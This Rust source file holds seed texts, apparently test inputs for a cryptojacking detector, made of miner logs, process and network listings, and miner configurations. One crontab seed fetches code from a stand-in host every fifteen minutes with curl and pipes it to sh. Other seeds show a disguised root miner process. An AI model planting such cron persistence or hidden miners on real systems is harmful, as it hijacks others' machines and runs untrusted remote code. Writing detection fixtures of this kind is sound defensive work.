//! Seeds for texts: logs of miners, listings of commands, configurations and scripts.

use super::Seed;

const TEXTS: &[(&str, &str)] = &[
    (
        "xmrig",
        " * ABOUT        XMRig/6.21.0 gcc/12.2.1\n * POOL #1      stratum+ssl://pool.example:443 algo auto\n[2021-03-10 19:31:48.253]  net      use pool pool.example:443 TLSv1.3 198.51.100.9\n[2021-03-10 19:31:55.052]  net      new job from pool.example:443 diff 480045 algo rx/0 height 2\n[2021-03-10 19:32:55.052]  cpu      accepted (3/1) diff 480045 (42 ms)\n[2021-03-10 19:33:55.052]  miner    speed 10s/60s/15m 57.43 56.41 n/a H/s max 59.00 H/s\n",
    ),
    (
        "cpuminer",
        "** cpuminer-multi 1.3.1 by tpruvot@github **\n[2017-06-03 18:43:59] Starting Stratum on stratum+tcp://pool.example:20533\n[2017-06-03 18:43:59] accepted: 11/12 (91.67%), 5718 khash/s (yay!!!)\n",
    ),
    (
        "cgminer",
        " [2018-05-19 08:18:32] Started cgminer 3.7.2\n [2018-05-19 08:20:58] Switching to pool 227 stratum+tcp://192.0.2.11:25 - first alive pool\n [2018-05-19 08:21:58] Accepted 44040000 Diff 0/0 GPU 4 pool 227\n",
    ),
    (
        "cards",
        "[09:39:21] INFO - ethash - New job: pool.example:5555, ID: 57, HEIGHT: 1, DIFF: 4.295G\n[09:39:27] INFO - ethash - #129 Share accepted, 53 ms.\n i 10:00:44 stratum  **Accepted  43 ms. pool.example [192.0.2.1:5555]\n[ OK ] 11/12 - 187.07 MH/s, 1ms\n2024-Mar-30 20:22:09: New job from pool.example:3333 | share difficulty = 14 GH\n",
    ),
    (
        "ps",
        "root@web-3:~# ps aux\nUSER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot 42 99.5 1.0 10 20 ? Sl Oct25 1-00:00:01 ./x -o pool.example:3333\nroot 4 0.0 0.0 0 0 ? S< Oct25 0:00 [kworker/0:0H]\n",
    ),
    (
        "top",
        "top - 13:24:47 up 514 days\n  PID USER      PR  NI    VIRT    RES    SHR S  %CPU %MEM     TIME+ COMMAND\n 5179 root      20   0  591444 269732   2704 S 191.4  6.7 126:00.42 x\n",
    ),
    ("top-line", "root    20   0  461440   5188    800 S 111.3  0.1  12246:26 x\n"),
    (
        "netstat",
        "Active Internet connections (w/o servers)\nProto Recv-Q Send-Q Local Address Foreign Address State PID/Program name\ntcp 0 0 10.0.0.7:40000 198.51.100.9:3333 ESTABLISHED 42/./x\ntcp4 0 0 192.0.2.7.22 192.0.2.1.56321 ESTABLISHED\n",
    ),
    (
        "ss",
        "Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port\ntcp ESTAB 0 0 [2001:db8::7]:40000 [2001:db8::9]:3333 users:((\"x\",pid=4,fd=3))\n",
    ),
    (
        "lsof",
        "COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME\nx 42 root 5u IPv4 1 0t0 TCP 10.0.0.7:4->198.51.100.9:443 (ESTABLISHED)\n",
    ),
    ("crontab", "SHELL=/bin/sh\n# mine\n*/15 * * * * (curl -fsSL https://a.example/x)|sh\n@reboot /opt/x\n"),
    ("systemctl", "  UNIT LOAD ACTIVE SUB DESCRIPTION\n\u{25cf} x.service loaded failed failed What it is\n"),
    (
        "last",
        "a  pts/0  192.0.2.1  Thu Aug 15 10:58 - 11:56  (00:58)\na  pts/0  192.0.2.1  Thu Aug 15 10:58 - 11:56  (00:58)\n\nwtmp begins Thu\n",
    ),
    (
        "config",
        "// mine\n{\"autosave\":true,\"pools\":[{\"url\":\"pool.example:3333\",\"user\":\"W\",\"pass\":\"x\",},],}",
    ),
    (
        "pools",
        "\"pool_list\" :\n[\n {\"pool_address\" : \"pool.example:3333\", \"wallet_address\" : \"W\", },\n],\n",
    ),
    (
        "ini",
        "; rig\n[Ethash]\nwallet = 0x00000000219ab540356cBB839Cbe05303d7705Fa\npool1 = pool.example:3333\n",
    ),
    (
        "batch",
        "@echo off\r\n:again\r\nx.exe --pool stratum+tcp://pool.example:3333 --user W\r\ngoto again\r\n",
    ),
];

/// The texts, as the target reads them.
pub(super) fn seeds() -> Vec<Seed> {
    TEXTS.iter().map(|(name, text)| Seed::new("text", name, *text)).collect()
}
